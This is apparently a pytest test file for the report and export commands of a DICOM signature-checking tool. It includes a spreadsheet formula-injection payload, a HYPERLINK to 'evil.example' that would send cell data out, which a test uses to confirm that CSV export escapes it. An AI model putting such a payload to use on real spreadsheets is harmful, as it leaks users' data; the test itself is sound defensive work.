"""`archive report` and `export`."""

from __future__ import annotations

import csv
import importlib
import json
import os
import re
import sqlite3
from contextlib import closing
from datetime import timedelta
from html import unescape

import pki
import pydicom
import pytest
from _archive import VERDICTS, VERIFY
from pydicom.uid import UID

from dicomseal import sign_file
from dicomseal.archive.find.sample import no_less_than
from dicomseal.archive.reports import modalities
from dicomseal.archive.reports.summary import MAX_NAMES
from dicomseal.remedies.table import TABLE, sentence


@pytest.fixture
def ledger(run, folder):
    (folder / "archive" / "<b>x&y.dcm").write_bytes((folder / "archive/failed.dcm").read_bytes())
    assert run(*VERIFY)[0] == 1
    return folder


def test_json(run, ledger):
    code, out, err = run("archive", "report", "ledger.db", "--format", "json")
    assert (code, err) == (0, "")
    report = json.loads(out)
    assert (report["run"], report["files"], report["complete"], report["signed"]) == (
        1,
        9,
        True,
        False,
    )
    assert report["bytes"] == sum(
        os.path.getsize(os.path.join(where, name))
        for where, _, names in os.walk("archive")
        for name in names
    )
    assert report["verdicts"] == VERDICTS | {"failed": 2, "directory": 0}
    assert report["reasons"] == {
        "HASH_FAILURE": 2, "NO_CERTIFICATE_CHAIN_FOUND": 1, "not_dicom": 1, "empty": 1,
        "truncated": 1,
    }  # fmt: skip
    assert report["algorithms"] == {"SHA256": 5}
    assert report["unsigned_share"] == pytest.approx(1 / 6)
    signers = {one["subject"]: one for one in report["signers"]}
    rsa = pki.member("rsa").certificate
    assert len(signers) == 2
    one = signers[rsa.subject.rfc4514_string()]
    assert one["sha256"] == rsa.fingerprint(pki.hashes.SHA256()).hex()
    names = ("signatures", "intact", "trusted", "without_timestamp", "by_ledger")
    assert [one[name] for name in names] == [4, 2, 4, 4, 0]
    assert report["expiring"] == {one["not_after"][:7]: 4}
    assert report["times"] == {"validation": 5}
    # what the issue that asked for it promised
    assert report.keys() >= {"run", "files", "bytes", "verdicts", "reasons", "signers", "failures"}
    failures = {os.path.basename(one["path"]): one for one in report["failures"]}
    assert failures.keys() == {"failed.dcm", "<b>x&y.dcm", "error.dcm"}
    assert failures["failed.dcm"]["sentence"].endswith("the content was changed")
    assert sum(point["files"] for point in report["throughput"]) == 9


def test_indeterminate_objects_are_listed_as_failures_are(run, ledger):
    """With their reasons, in every format; of each as many as are asked for."""
    (ledger / "archive" / "again.dcm").write_bytes(
        (ledger / "archive" / "indeterminate.dcm").read_bytes()
    )
    run(*VERIFY)
    command = ("archive", "report", "ledger.db")
    report = json.loads(run(*command, "--format", "json")[1])
    assert report["undecided_left_out"] == 0
    assert [os.path.basename(one["path"]) for one in report["undecided"]] == [
        "again.dcm", "indeterminate.dcm",
    ]  # fmt: skip
    for one in report["undecided"]:
        assert (one["verdict"], one["reason"]) == ("indeterminate", "NO_CERTIFICATE_CHAIN_FOUND")
        assert one["sentence"].startswith("no chain from the certificate of CN=Test other")
    text, html = run(*command)[1], run(*command, "--format", "html")[1]
    _, _, listed = text.partition("\nindeterminate:\n")
    assert f"  indeterminate {ledger}/archive/again.dcm\n" in listed
    assert "          NO_CERTIFICATE_CHAIN_FOUND: no chain from the certificate of" in listed
    assert html.index('<h2 id="failures">') < html.index('<h2 id="indeterminate">')
    assert (
        f'<td data-head="File">{ledger}/archive/again.dcm</td>'
        '<td data-head="Verdict">indeterminate</td>'
    ) in html
    report = json.loads(run(*command, "--format", "json", "--most", "1")[1])
    assert (len(report["undecided"]), report["undecided_left_out"]) == (1, 1)
    run("archive", "verify", "archive/a", "--ledger", "ledger.db")  # without --trust
    assert "          no trust anchor was named, so the signer is not" in run(*command)[1]
    text = run(*command, "--most", "0", "--run", "2")[1]
    assert text.endswith("failures:\n  and 3 more\nindeterminate:\n  and 2 more\n")


def test_modalities(run, folder):
    """As the object says it; else as its SOP Class does, and then that is told."""
    for name, modality, sop_class in (
        ("1", "CT", "1.2.840.10008.5.1.4.1.1.2"),
        ("2", "CT", "1.2.840.10008.5.1.4.1.1.2"),
        ("3", None, "1.2.840.10008.5.1.4.1.1.2"),
        ("4", None, "1.2.840.10008.5.1.4.1.1.7"),
        ("5", "", "1.2.3"),
        ("6", "M\0R", "1.2.840.10008.5.1.4.1.1.7"),
    ):
        data = pydicom.dcmread("archive/unsigned.dcm")
        data.SOPClassUID = sop_class
        if modality is not None:
            data.add_new("Modality", "CS", modality)
        data.save_as(f"archive/{name}.dcm")
    sign_file("archive/1.dcm", "archive/1.dcm", *pki.member("rsa").pair)
    run(*VERIFY, "--include", "[1-6].dcm")
    report = json.loads(run("archive", "report", "ledger.db", "--format", "json")[1])
    assert report["modalities"] == {
        "CT": {"passed": 1, "unsigned": 1}, "(not known)": {"unsigned": 2},
        "CT (by SOP Class)": {"unsigned": 1}, "M\\0R": {"unsigned": 1},
    }  # fmt: skip
    assert report["sop_classes"]["CT Image Storage"] == {"passed": 1, "unsigned": 2}
    out = run("archive", "report", "ledger.db")[1]
    assert "modalities:\n             2  (not known)\n             2  CT\n" in out
    run("archive", "export", "ledger.db", "--jsonl", "x.jsonl")
    assert {
        json.loads(line)["modality"] for line in (folder / "x.jsonl").read_text().splitlines()
    } == {"CT", "", "M\\0R"}


def test_the_table_of_modalities():
    """Against pydicom's names of the classes: each is a storage class, and none is there twice."""
    named = [uid for classes in modalities._CLASSES.values() for uid in classes]
    assert len(named) == len(set(named))
    for uid in modalities._BY_CLASS:
        assert "Storage" in UID(uid).name, uid
    words = {"CT": "CT ", "MR": "MR ", "ECG": "ECG", "RTDOSE": "RT Dose", "SR": "SR"}
    for uid, name in modalities._BY_CLASS.items():
        assert words.get(name, "") in UID(uid).name, uid


def test_signatures_that_a_ledger_proves(run, folder):
    run(*VERIFY)
    later = (pki.NOW + timedelta(days=2)).isoformat()
    run(*VERIFY, "--at", later, "--poe-ledger", "ledger.db")
    report = json.loads(run("archive", "report", "ledger.db", "--format", "json")[1])
    assert report["times"] == {"poe_ledger": 2, "validation": 2}
    assert sum(one["by_ledger"] for one in report["signers"]) == 2
    out = run("archive", "report", "ledger.db")[1]
    assert "2 trusted, 2 of these without a timestamp, 2 by a ledger\n" in out
    assert "             2  poe_ledger\n" in out


def test_text(run, ledger):
    code, out, _ = run("archive", "report", "ledger.db", "--most", "1")
    assert code == 0
    assert re.search(r"^ +2  failed$", out, re.MULTILINE)
    assert "\n  and 2 more\nindeterminate:\n" in out
    assert run("archive", "report", "ledger.db", "--run", "7")[0] == 2


def test_a_run_that_was_not_finished(run, ledger):
    with sqlite3.connect("ledger.db") as db:
        db.execute("DELETE FROM run_end")
    assert "run 1, NOT COMPLETE" in run("archive", "report", "ledger.db")[1]


def test_what_a_sample_says(run, folder):
    for number in range(300):
        (folder / "archive" / f"{number}.dcm").write_bytes(pki.small())
    run(*VERIFY, "--sample", "50%", "--seed", "x", "--include", "*0.dcm", "--include", "*1.dcm")
    (said,) = re.findall("sample: (.*)", run("archive", "report", "ledger.db")[1])
    drawn = json.loads(run("archive", "report", "ledger.db", "--format", "json")[1])["files"]
    assert 15 < drawn < 45  # four standard deviations; the same whenever and wherever it runs
    bound = 1 - 0.05 ** (1 / drawn)  # rounded up
    assert said == (
        f"of 60 files {drawn} were drawn, and none failed: with 95% confidence at most "
        f"{no_less_than(bound)} of all would fail"
    )
    run(*VERIFY, "--sample", "100%", "--include", "error.dcm")
    said = run("archive", "report", "ledger.db")[1]
    assert "of 1 files 1 were drawn, and 1 failed or could not be read: with 95%" in said
    run(*VERIFY, "--sample", "50%", "--stratify")
    assert "no share of all is concluded" in run("archive", "report", "ledger.db")[1]


def needed(name):
    """A module of the extra; in CI it has to be there."""
    return importlib.import_module(name) if os.environ.get("CI") else pytest.importorskip(name)


# --- export --------------------------------------------------------------------------------------


def test_export(run, ledger):
    parquet = needed("pyarrow.parquet")
    assert run("archive", "export", "ledger.db")[0] == 2
    name = b"\xff.dcm"
    os.rename(os.path.join(os.fsencode(ledger), b"archive/a/passed.dcm"),
              os.path.join(os.fsencode(ledger), b"archive", name))  # fmt: skip
    run(*VERIFY)
    code, out, err = run("archive", "export", "ledger.db", "--csv", "x.csv", "--jsonl", "x.jsonl",
                         "--parquet", "x.parquet")  # fmt: skip
    assert (code, out, err) == (0, "", "")
    with open("x.csv", newline="", encoding="utf-8") as file:
        table = list(csv.DictReader(file))
    lines = [json.loads(line) for line in (ledger / "x.jsonl").read_text("utf-8").splitlines()]
    assert [{k: "" if v is None else str(v) for k, v in line.items()} for line in lines] == table
    assert parquet.read_table("x.parquet").to_pylist() == lines
    found = {os.path.basename(line["path"]): line for line in lines}
    assert len(lines) == 9
    assert found["\\xff.dcm"]["verdict"] == "passed"
    assert found["failed.dcm"]["signature_integrity"] == "altered"
    assert found["failed.dcm"]["signer_key"] == "RSA 2048"
    assert found["unsigned.dcm"]["signature_uid"] is None
    again = found["again.dcm"]
    with closing(sqlite3.connect("ledger.db")) as db:
        (digest, content) = db.execute(
            "SELECT digest, signature.content FROM signature JOIN object ON object = id"
            " WHERE path LIKE '%again.dcm'"
        ).fetchone()
    assert again["signature_digest"] == digest.hex()
    assert again["signature_content"] == content.hex()
    assert len(again["signature_elements"]) == 32
    assert (again["content"], again["signature_judged_by"]) == ("", "validation")


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"])
def test_csv_holds_no_formulas(run, folder, first):
    """What an object says, for people with a spreadsheet program; the other formats have it so."""
    parquet = needed("pyarrow.parquet")
    formula = f'{first}HYPERLINK("http://evil.example/"&A1)'
    run(*VERIFY)
    with closing(sqlite3.connect("ledger.db")) as db, db:
        db.execute("UPDATE object SET sop_instance_uid = ?, sentence = ?, path = ?, mtime = -5"
                   " WHERE id = 1", (formula, f"x{formula}", formula))  # fmt: skip
        db.execute("UPDATE signature SET uid = ?", (formula,))
        db.execute("UPDATE signer SET subject = ?", (formula,))
    run(
        "archive", "export", "ledger.db", "--csv", "x.csv", "--jsonl", "x.jsonl", "--parquet", "x.p"
    )
    with open("x.csv", newline="", encoding="utf-8") as file:
        table = list(csv.DictReader(file))
    assert not [cell for line in table for name, cell in line.items()
                if cell and cell[0] in "=+-@\t\r\n\uff1d" and name != "mtime"]  # fmt: skip
    assert table[0]["sop_instance_uid"] == table[0]["path"] == "'" + formula
    assert (table[0]["sentence"], table[0]["mtime"]) == (f"x{formula}", "-5")
    assert {one["signature_uid"] for one in table} == {"'" + formula, ""}
    assert {one["signer_subject"] for one in table} == {"'" + formula, ""}
    lines = [json.loads(line) for line in (folder / "x.jsonl").read_text("utf-8").splitlines()]
    assert lines[0]["path"] == lines[0]["sop_instance_uid"] == formula
    assert parquet.read_table("x.p").to_pylist() == lines


def test_names_that_strangers_chose_are_bounded(run, folder):
    """As many SOP Classes and modalities as objects; those that many have are told apart."""
    run(*VERIFY)
    with closing(sqlite3.connect("ledger.db", isolation_level=None)) as db:
        (last,) = db.execute("SELECT max(id) FROM object").fetchone()
        db.execute("BEGIN")
        for number in range(last + 1, last + 2001):
            db.execute(
                "INSERT INTO object SELECT ?, path, size, mtime, '1.2.' || ?, '', 'M' || ?, '',"
                " verdict, '', '', '', 0, '', 1 FROM object WHERE id = 1",
                (number, number, number),
            )
        db.execute("UPDATE batch SET last = last + 2000")
        db.execute("COMMIT")
    report = json.loads(run("archive", "report", "ledger.db", "--format", "json")[1])
    for found in (report["sop_classes"], report["modalities"]):
        assert len(found) == MAX_NAMES + 1
        assert sum(sum(some.values()) for some in found.values()) == 2008
    assert "Secondary Capture Image Storage" in report["sop_classes"]


def test_what_to_do_about_each_reason(run, ledger):
    """In JSON, text and HTML, from the one table."""
    report = json.loads(run("archive", "report", "ledger.db", "--format", "json")[1])
    assert report["remedies"].keys() == report["reasons"].keys() != set()
    assert report["remedies"]["HASH_FAILURE"] == sentence("HASH_FAILURE")
    text = run("archive", "report", "ledger.db")[1]
    page = run("archive", "report", "ledger.db", "--format", "html")[1]
    for code, what in report["remedies"].items():
        assert f"  {code}: {what}" in text
        assert f'>{code}</td><td data-head="What to do">{what}</td>' in unescape(page)
    for code in {group["reason"] for group in report["groups"]}:
        for purpose, command in TABLE[code].steps:
            assert f"{purpose}: <code>{command}</code>" in unescape(page)
